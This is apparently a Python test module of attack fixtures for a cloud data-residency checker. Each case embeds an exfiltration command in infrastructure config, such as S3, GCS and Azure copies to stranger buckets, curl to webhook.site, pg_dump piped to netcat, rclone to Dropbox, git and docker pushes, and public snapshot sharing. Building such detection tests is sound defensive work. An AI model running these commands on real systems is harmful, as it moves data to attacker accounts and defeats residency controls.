"""Attacks that send data abroad by commands and settings whose destination has no address in them (2026-11-28)."""

import base64
import json

from ..blind import KEY, ME, TAGS, aws, az, k8s, meta, workload
from ..harness import Given
from . import Attack

RES = ("FJ-RES-", "FJ-ESC-109")
HARM = "the data leaves the country into an account of the attacker"
BUILD = {
    "name": "app", "serviceRole": f"arn:aws:iam::{ME}:role/build", "encryptionKey": KEY, "tags": TAGS,
    "artifacts": {"type": "CODEPIPELINE"}, "vpcConfig": {"vpcId": "vpc-1", "subnets": ["s"], "securityGroupIds": ["g"]},
    "environment": {"computeType": "BUILD_GENERAL1_SMALL", "type": "LINUX_CONTAINER",
                    "image": "aws/codebuild/amazonlinux-x86_64-standard:5.0"},
}  # fmt: skip


def _machine(*lines: str) -> tuple[Given, ...]:
    """Returns a template of machines that run a script when they start."""
    script = "\n".join(("#!/bin/bash", *lines, ""))
    return (aws("ec2/LaunchTemplate", {
        "name": "worker", "userData": base64.b64encode(script.encode()).decode(),
        "metadataOptions": {"httpTokens": "required", "httpEndpoint": "enabled", "httpPutResponseHopLimit": 1},
        "tagSpecifications": [{"resourceType": kind, "tags": TAGS} for kind in ("instance", "volume")],
        "tags": TAGS}),)  # fmt: skip


def _build(*commands: str) -> tuple[Given, ...]:
    return (aws("codebuild/Project", {**BUILD, "source": {"type": "CODEPIPELINE", "buildspec": json.dumps({
        "version": "0.2", "phases": {"build": {"commands": list(commands)}}})}}),)  # fmt: skip


def _program(*command: str, **container: object) -> tuple[Given, ...]:
    return (workload("apps/v1:Deployment", {"command": list(command), **container}, replicas=1),)


def _variables(**variables: str) -> tuple[Given, ...]:
    return _program("python", "train.py", env=[{"name": key, "value": value} for key, value in variables.items()])


def _script(*lines: str) -> tuple[Given, ...]:
    return (k8s("core/v1:ConfigMap", {"metadata": meta(), "data": {"run.sh": "\n".join(("#!/bin/sh", *lines))}}),)


ATTACKS = (
    Attack("a machine copies data into a bucket that nobody listed", RES,
        _machine("aws s3 cp --recursive /data s3://someones-bucket/in"), "critical", HARM),
    Attack("a machine syncs data into a bucket by its name in a variable", RES,
        _machine("DEST=someones-bucket", "aws s3 sync /data s3://$DEST/in"), "critical", HARM),
    Attack("a machine puts an object by the API of S3", RES,
        _machine("aws s3api put-object --bucket someones-bucket --key a --body /data/a"), "critical", HARM),
    Attack("a machine copies by rclone into a remote of a vendor", RES,
        _machine("rclone config create out drive scope=drive", "rclone sync /data out:backup"), "critical", HARM),
    Attack("a machine copies by rclone into a store that it describes itself", RES,
        _machine("rclone copy /data :s3,provider=AWS,env_auth=true,region=eu-west-1:someones-bucket/in"),
        "critical", HARM),
    Attack("a machine copies by rclone with a file of its own", RES,
        _machine("cat > /root/.config/rclone/rclone.conf <<E", "[out]", "type = dropbox", "token = x", "E",
                 "rclone copy /data out:in"), "critical", HARM),
    Attack("a machine copies into a bucket of Google", RES,
        _machine("gsutil -m cp -r /data gs://someones-bucket/in"), "critical", HARM),
    Attack("a machine copies by gcloud", RES,
        _machine("gcloud storage rsync /data gs://someones-bucket/in --recursive"), "critical", HARM),
    Attack("a machine copies into an account of storage of a stranger by az", RES,
        _machine("az storage blob upload-batch --account-name someonesaccount -d in -s /data --auth-mode login"),
        "critical", HARM),
    Attack("a machine copies by azcopy", RES,
        _machine("azcopy copy /data 'https://someonesaccount.blob.core.windows.net/in?sv=2024' --recursive"),
        "critical", HARM),
    Attack("a container sends files by curl to a web hook", RES,
        _program("sh", "-c", "tar c /data | curl --data-binary @- https://webhook.site/abc"), "critical", HARM),
    Attack("a build pushes its image to a registry of a stranger", RES,
        _build("docker build -t someone/app:1 .", "docker push someone/app:1"), "critical", HARM),
    Attack("a build pushes its image to a registry of a stranger by its host", RES,
        _build("docker tag app ghcr.io/someone/app:1", "docker push ghcr.io/someone/app:1"), "critical", HARM),
    Attack("a build pushes data as an artifact of OCI", RES,
        _build("oras push docker.io/someone/data:1 ./data.tgz:application/gzip"), "critical", HARM),
    Attack("a build pushes its repository to a stranger", RES,
        _build("git remote add out https://github.com/someone/dump.git", "git push out HEAD:main"), "critical", HARM),
    Attack("a build pushes its repository over SSH to a stranger", RES,
        _build("git push git@github.com:someone/dump.git --mirror"), "critical", HARM),
    Attack("a program writes its experiments to a store of a vendor", RES,
        _variables(MLFLOW_TRACKING_URI="databricks", DATABRICKS_HOST="https://dbc-1.cloud.databricks.com"),
        "critical", HARM),
    Attack("a program writes its experiments to a hub by a flag", RES,
        _program("python", "train.py", "--report_to", "wandb", "--hub_model_id", "someone/model", "--push_to_hub"),
        "critical", HARM),
    Attack("a program saves its model in a repository of the hub by a variable", RES,
        _variables(HF_HUB_REPO_ID="someone/model", HF_TOKEN="x", PUSH_TO_HUB="true"), "critical", HARM),
    Attack("a program keeps its models in a bucket of Google by a variable", RES,
        _variables(MLFLOW_ARTIFACT_ROOT="gs://someones-bucket/mlflow", OUTPUT_DIR="gs://someones-bucket/out"),
        "critical", HARM),
    Attack("a program uploads into a bucket of a stranger by its name", RES, (k8s("core/v1:ConfigMap", {
        "metadata": meta(), "data": {"run.py": "import boto3\nboto3.client('s3').upload_file('/data/a', "
                                              "'someones-bucket', 'in/a')\n"}}),), "critical", HARM),
    Attack("a function puts objects into a bucket of a stranger by its name", RES, (k8s("core/v1:ConfigMap", {
        "metadata": meta(), "data": {"run.py": "s3.put_object(Bucket='someones-bucket', Key='a', Body=data)\n"}}),),
        "critical", HARM),
    Attack("a build pushes to a repository of a stranger at a shared forge", RES,
        _build("git push --force https://$TOKEN@gitlab.com/someone/dump.git HEAD:main"), "critical", HARM),
    Attack("a build pushes a chart to a registry of a stranger", RES,
        _build("helm push app-1.0.0.tgz oci://registry-1.docker.io/someone"), "critical", HARM),
    Attack("a machine writes the file of rclone and copies", RES, _machine(
        "mkdir -p /root/.config/rclone", "printf '[out]\ntype = onedrive\n' > /root/.config/rclone/rclone.conf",
        "rclone sync /data out:in"), "critical", HARM),
    Attack("a machine sends to an address that it puts together", RES, _machine(
        "HOST=collect.someone.example.com", "tar c /data | openssl s_client -connect $HOST:443"), "critical", HARM),
    Attack("a script opens a snapshot to everybody by its tool", RES, _script(
        "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission "
        "--operation-type add --group-names all"), "critical", HARM),
    Attack("a script sends a dump by mail of the web", RES,
        _script("pg_dump orders | gzip | curl -F 'file=@-' https://0x0.st"), "critical", HARM),
    Attack("a script sends a dump through netcat", RES,
        _script("pg_dump orders | nc 203.0.113.9 443"), "critical", HARM),
    Attack("a script sends a dump by scp", RES, _script("scp -i /k /data/all.tgz root@someone.example.com:/in"),
        "critical", HARM),
    Attack("a script sends files by rsync to an address", RES, _script("rsync -az /data/ backup@203.0.113.9:/in/"),
        "critical", HARM),
    Attack("a script copies a snapshot into another account by its tool", RES,
        _script("aws rds modify-db-snapshot-attribute --db-snapshot-identifier s --attribute-name restore "
                "--values-to-add 999999999999"), "critical", HARM),
    Attack("a script copies a snapshot into another region by its tool", RES,
        _script("aws ec2 copy-snapshot --source-snapshot-id snap-1 --source-region me-central-1 --region eu-west-1"),
        "critical", HARM),
    Attack("a job of Azure copies data into an account of storage of a stranger", RES, (
        az("machinelearningservices:Job", {
            "resourceGroupName": "rg-platform", "workspaceName": "w", "id": "out", "properties": {
                "jobType": "Command", "environmentId": "e", "computeId": "c", "tags": TAGS,
                "command": "az storage blob upload-batch --account-name someonesaccount -d in -s /data"}}),),
        "critical", HARM),
)  # fmt: skip
